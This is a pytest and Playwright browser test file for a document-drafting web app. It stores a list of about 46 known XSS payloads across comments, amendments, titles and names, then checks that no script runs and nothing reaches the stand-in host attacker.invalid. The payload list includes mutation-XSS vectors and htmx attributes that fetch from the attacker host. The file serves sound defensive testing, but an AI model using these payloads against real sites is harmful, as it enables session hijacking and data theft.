"""Known XSS payloads stored everywhere the consultation takes text, then every page and fragment
that shows them opened in Chromium: no script may run, no request may leave for the attacker.

The browser context bypasses the Content-Security-Policy, so what is proven here is the
sanitising and escaping itself, not the CSP behind it.
"""

from __future__ import annotations

import re
import shutil
from datetime import timedelta

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from drafting.extensions import db
from drafting.models import ApiToken, Document, Membership, Organisation, Participation, User
from drafting.models.base import utcnow
from tests.conftest import EMAILS, PASSWORD, make_app
from tests.served import LiveServer

pytestmark = pytest.mark.browser

ATTACKER = "attacker.invalid"

# Each one, if it ran, would open a dialog, set window.__xss, or fetch from the attacker's host.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//attacker.invalid/x.js></SCRIPT>",
    '"><script>alert(1)</script>',
    "'--></style></script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=window.__xss=1>",
    '<img src="//attacker.invalid/pixel.png">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="JaVaScRiPt:window.__xss=1">click me</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entity</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<div style="background:url(javascript:alert(1))">style</div>',
    '<p style="width: expression(alert(1))">expression</p>',
    "<style>@import 'http://attacker.invalid/x.css';</style>",
    '<link rel="stylesheet" href="http://attacker.invalid/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://attacker.invalid/">',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<div hx-get="http://attacker.invalid/x" hx-trigger="load">htmx get</div>',
    '<div data-hx-get="//attacker.invalid/y" data-hx-trigger="load">htmx data</div>',
    '<button hx-on:click="alert(1)" hx-on::load="window.__xss=1">htmx on</button>',
    '<div hx-post="/logout" hx-trigger="load">logout</div>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "{{constructor.constructor('alert(1)')()}}",
    "<a href=# onclick=alert(1)>onclick</a>",
]


def stored_world(database):
    """Store the payloads through the JSON API, as clients would; return what to look at."""
    app = make_app(database)
    client = app.test_client()
    with app.app_context():
        plan = db.session.scalar(select(Document).where(Document.kind == "action_plan"))
        declaration = db.session.scalar(select(Document).where(Document.kind == "declaration"))
        # An organisation and a person whose names are payloads too.
        org = Organisation(name='Cluster <img src=x onerror=alert(1)>', country="XX")
        person = User(email="xss@drafting.example", name="<script>alert(1)</script> Mallory", organisation=org)
        person.set_password(PASSWORD)
        db.session.add_all([org, person])
        db.session.flush()
        for document in (plan, declaration):
            db.session.add(Membership(user_id=person.id, document_id=document.id, role="commenter"))
            db.session.add(Participation(document_id=document.id, organisation_id=org.id))
        tokens = {}
        for role in ("editor", "commenter", "admin"):
            user = db.session.scalar(select(User).where(User.email == EMAILS[role]))
            tokens[role] = ApiToken.issue(user)[1]
        tokens["mallory"] = ApiToken.issue(person)[1]
        ids = {"plan": plan.id, "declaration": declaration.id, "org": org.id,
               "plan_clauses": [c.id for c in plan.clauses], "decl_clauses": [c.id for c in declaration.clauses]}
        db.session.commit()

    def call(who, method, path, /, **json):
        response = getattr(client, method)(f"/api/v1{path}", json=json or None,
                                           headers={"Authorization": f"Bearer {tokens[who]}"})
        assert response.status_code < 300, (path, response.status_code, response.get_data(as_text=True)[:300])
        return response.get_json()

    clause3, clause5, clause7 = ids["plan_clauses"][2], ids["plan_clauses"][4], ids["plan_clauses"][6]
    original = next(c for c in call("editor", "get", f"/documents/{ids['plan']}")["clauses"] if c["id"] == clause3)
    # Threads opened on the original text become "changed" and "outdated" once the text is replaced.
    words = original["text"].split()
    call("commenter", "post", f"/clauses/{clause3}/threads", body=PAYLOADS[0], quote=" ".join(words[:4]))
    changed = call("mallory", "post", f"/clauses/{clause3}/threads", body=PAYLOADS[6], quote=" ".join(words[-3:]))
    text = "Clause with payloads.\n\n" + "\n\n".join(PAYLOADS) + "\n\n" + " ".join(words[-3:])
    call("editor", "patch", f"/clauses/{clause3}", text=text, base_version=original["version"],
         heading='<img src=x onerror=alert(1)> Heading')

    thread_ids = []
    for i, payload in enumerate(PAYLOADS):
        author = ("commenter", "mallory", "editor")[i % 3]
        quote = payload if i % 4 == 0 else None
        thread = call(author, "post", f"/clauses/{clause3}/threads", body=f"Payload {i}: {payload} @Tereza Novotná",
                      quote=quote)
        thread_ids.append(thread["id"])
        call(("mallory", "editor", "commenter")[i % 3], "post", f"/threads/{thread['id']}/comments",
             body=f"Reply {i}: {payload}")
    for thread_id in thread_ids[::5]:
        call("editor", "post", f"/threads/{thread_id}/resolve", disposition="not_accepted",
             reason=f"Reason: {PAYLOADS[0]}")

    clause5_now = next(c for c in call("editor", "get", f"/documents/{ids['plan']}")["clauses"] if c["id"] == clause5)
    amendments = []
    for i, payload in enumerate(PAYLOADS[:12]):
        amendments.append(call(("commenter", "mallory")[i % 2], "post", f"/clauses/{clause5}/amendments",
                               text=clause5_now["text"] + f" Amendment {i}: {payload}", rationale=f"Because {payload}"))
    call("editor", "post", f"/amendments/{amendments[0]['id']}/accept",
         text=clause5_now["text"] + " Accepted with changes: " + " ".join(PAYLOADS[12:20]))
    for amendment, payload in zip(amendments[1:5], PAYLOADS[20:24], strict=True):
        call("editor", "post", f"/amendments/{amendment['id']}/reject", reason=f"Rejected: {payload}")
    call("commenter", "post", f"/amendments/{amendments[6]['id']}/withdraw")
    # An amendment that now conflicts with the current text: the page offers to reconcile.
    clause7_now = next(c for c in call("editor", "get", f"/documents/{ids['plan']}")["clauses"] if c["id"] == clause7)
    conflicting = call("commenter", "post", f"/clauses/{clause7}/amendments", text=" ".join(PAYLOADS[24:34]),
                       rationale=PAYLOADS[34])
    call("editor", "patch", f"/clauses/{clause7}", text="The committee's text " + PAYLOADS[35],
         base_version=clause7_now["version"])

    for i, payload in enumerate(PAYLOADS[::3]):
        made = call(("commenter", "mallory")[i % 2], "post", f"/documents/{ids['declaration']}/contributions",
                    kind="bottleneck" if i % 4 == 1 else "best_practice", topic="digital_solutions", title=f"Title {payload}",
                    body=f"Body {payload}", proposal=f"Proposal {payload}",
                    clause_ids=ids["decl_clauses"][:1])
        if i % 2 == 0 and i < 6:
            call("editor", "put", f"/contributions/{made['id']}/clauses", clause_ids=ids["decl_clauses"][1:3])

    # A document whose title is a payload: it reaches notifications and the report.
    evil = call("admin", "post", "/documents", title='<svg onload=alert(1)> "Declaration"', kind="declaration")
    for email, role in ((EMAILS["editor"], "editor"), (EMAILS["commenter"], "commenter")):
        call("admin", "post", f"/documents/{evil['id']}/members", email=email, role=role)
    call("admin", "post", f"/documents/{evil['id']}/participants", organisation="Scheldt Life Sciences Cluster")
    evil_clause = call("editor", "post", f"/documents/{evil['id']}/clauses", text=PAYLOADS[1], heading=PAYLOADS[10])
    deadline = (utcnow() + timedelta(days=2)).isoformat() + "Z"
    call("admin", "post", f"/documents/{evil['id']}/phase", phase="consultation", deadline=deadline)
    call("commenter", "post", f"/clauses/{evil_clause['id']}/threads", body=f"{PAYLOADS[2]} @Tereza Novotná",
         quote=PAYLOADS[1])
    with app.app_context():
        db.engine.dispose()
    return {**ids, "clause3": clause3, "clause5": clause5, "clause7": clause7, "changed_thread": changed["id"],
            "threads": thread_ids, "conflicting": conflicting["id"], "evil": evil["id"],
            "open_amendment": amendments[5]["id"]}


@pytest.fixture
def xss_server(template_database, tmp_path):
    database = tmp_path / "xss.db"
    shutil.copy(template_database, database)
    world = stored_world(database)
    server = LiveServer(database)
    yield server, world
    server.stop()


class Watch:
    """Record everything that would show a script ran."""

    def __init__(self, page):
        self.page = page
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        page.on("dialog", self._dialog)
        page.on("request", lambda request: ATTACKER in request.url and self.requests.append(request.url))
        page.route(re.compile(r".*attacker\.invalid.*"), lambda route: route.abort())

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self, where: str) -> None:
        page = self.page
        page.wait_for_timeout(150)  # let onload/onerror handlers and timers fire, if any were planted
        assert self.dialogs == [], (where, self.dialogs)
        assert self.requests == [], (where, self.requests)
        assert page.evaluate("() => window.__xss") is None, where
        found = page.evaluate("""() => {
            const bad = [];
            for (const el of document.querySelectorAll('*')) {
              for (const attr of el.attributes) {
                const name = attr.name.toLowerCase(), value = attr.value.trim().toLowerCase();
                if (name.startsWith('on')) bad.push(el.tagName + ' ' + name);
                if (['href', 'src', 'action', 'formaction', 'data', 'srcdoc'].includes(name) &&
                    (value.startsWith('javascript:') || value.startsWith('data:') || value.startsWith('vbscript:')))
                  bad.push(el.tagName + ' ' + name + '=' + value.slice(0, 40));
              }
            }
            for (const box of document.querySelectorAll('[hx-disable]')) {
              for (const el of box.querySelectorAll('script, iframe, object, embed, svg, math, img, style, link, '
                                                    + 'meta, base, form, input, button, template, noscript, video'))
                bad.push('inside user content: ' + el.tagName);
              for (const el of box.querySelectorAll('*'))
                for (const attr of el.attributes)
                  if (/^(data-)?hx-/.test(attr.name) || attr.name === 'style') bad.push('attribute ' + attr.name);
            }
            return bad;
        }""")
        assert found == [], (where, found)


def login(browser, server, role):
    context = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(8000)
    watch = Watch(page)
    page.goto(server.url("/login"))
    page.fill("#email", EMAILS[role] if role in EMAILS else role)
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url("**/documents")
    return context, page, watch


def test_no_stored_payload_runs_anywhere(browser, xss_server):
    assert len(PAYLOADS) >= 30
    server, world = xss_server
    context, page, watch = login(browser, server, "editor")
    try:
        plan = server.url(f"/documents/{world['plan']}")
        page.goto(plan)
        expect(page.locator("#connection")).to_have_attribute("data-state", "online")
        watch.check("document page")
        page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
        watch.check("every discussion expanded")
        assert page.locator(f"#consult-{world['clause3']} article.thread").count() >= len(PAYLOADS)
        expect(page.locator(f"#clause-{world['clause3']} .clause-text")).to_contain_text("<script>alert(1)</script>")
        expect(page.locator(f"#thread-{world['changed_thread']} .thread-changed")).to_be_visible()
        page.locator(f"#thread-{world['changed_thread']}").get_by_role("link", name=re.compile("See what changed")).click()
        expect(page.locator(f"#thread-{world['changed_thread']} .thread-changes .diff")).to_contain_text("<svg onload")
        watch.check("what changed since a thread was opened")

        # Fragments with forms that carry stored text: reply, accept with changes, reconcile, reject.
        thread = page.locator(f"#thread-{world['threads'][1]}")
        thread.get_by_role("link", name="Reply").click()
        # (By its label: with every <details> opened above, the thread's Resolve form has a textarea
        # too; and its role is combobox once the mention suggestions are attached, textbox before.)
        expect(thread.get_by_label("Your reply")).to_be_visible()
        amendment = page.locator(f"#consult-{world['clause5']} article.amendment-open").first
        amendment.get_by_role("link", name=re.compile("Accept with changes|Reconcile and accept")).click()
        expect(amendment.locator("form textarea")).to_have_value(re.compile("Amendment"))
        watch.check("accept-with-changes form")
        conflict = page.locator(f"#amendment-{world['conflicting']}")
        conflict.get_by_role("link", name="Reconcile and accept").click()
        expect(conflict.locator(".side-by-side")).to_contain_text("The committee's text")
        watch.check("reconcile form")
        conflict.get_by_role("button", name="Accept this text").click()
        expect(page.locator(f"#clause-{world['clause7']} .clause-status")).to_contain_text("Amendment accepted")
        watch.check("accepted amendment, clause re-rendered")
        other = page.locator(f"#consult-{world['clause5']} article.amendment-open").nth(1)
        other.get_by_role("link", name="Reject").click()
        expect(other.locator("form textarea")).to_be_visible()
        watch.check("reject form")

        # Live refresh of a discussion full of payloads, while this page watches.
        page.locator(f"#thread-{world['threads'][2]}").get_by_role("button", name="Resolve").click()
        expect(page.locator(f"#consult-{world['clause3']} .consult-status")).to_have_text("Thread resolved.")
        watch.check("after resolving")

        for path in (f"/documents/{world['plan']}/threads", f"/documents/{world['plan']}/threads?organisation={world['org']}",
                     f"/documents/{world['declaration']}/contributions",
                     f"/documents/{world['declaration']}/contributions?organisation={world['org']}&topic=digital_solutions",
                     f"/documents/{world['plan']}/summary", f"/documents/{world['plan']}/report",
                     f"/documents/{world['evil']}/report", f"/documents/{world['evil']}", "/notifications",
                     f"/clauses/{world['clause3']}/threads/new?quote=" + "%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E",
                     f"/threads/{world['changed_thread']}/changes",
                     f"/amendments/{world['open_amendment']}/accept",
                     f"/amendments/{world['open_amendment']}/reject"):
            page.goto(server.url(path))
            page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
            watch.check(path)
        page.goto(server.url("/notifications"))
        expect(page.locator(".notification-message").first).to_contain_text("<svg onload=alert(1)>")
        page.locator(".notification-message").first.click()
        expect(page.locator("#connection")).to_have_attribute("data-state", "online")
        watch.check("document reached from a notification")

        for path, kind in ((f"/documents/{world['plan']}/report.md", "text/markdown"),
                           (f"/documents/{world['plan']}/report.csv", "text/csv")):
            response = page.request.get(server.url(path))
            assert response.headers["content-type"].startswith(kind)
            assert response.headers["content-disposition"].startswith("attachment")
            assert response.headers["x-content-type-options"] == "nosniff"
    finally:
        context.close()

    # The author of payload comments edits one: the form shows the stored text, still inert.
    context, page, watch = login(browser, server, "commenter")
    try:
        page.goto(server.url(f"/documents/{world['plan']}"))
        expect(page.locator("#connection")).to_have_attribute("data-state", "online")
        page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
        own = page.locator(f"#thread-{world['threads'][3]} .comment").first
        own.get_by_role("link", name=re.compile("Edit")).click()
        expect(own.locator("form textarea")).to_have_value(re.compile("Payload 3"))
        watch.check("editing one's own comment")
        own.get_by_role("button", name="Save comment").click()
        expect(page.locator(f"#consult-{world['clause3']} .consult-status")).to_have_text("Comment saved.")
        watch.check("saved again")
        page.goto(server.url(f"/documents/{world['evil']}"))
        watch.check("document with a payload title")
    finally:
        context.close()
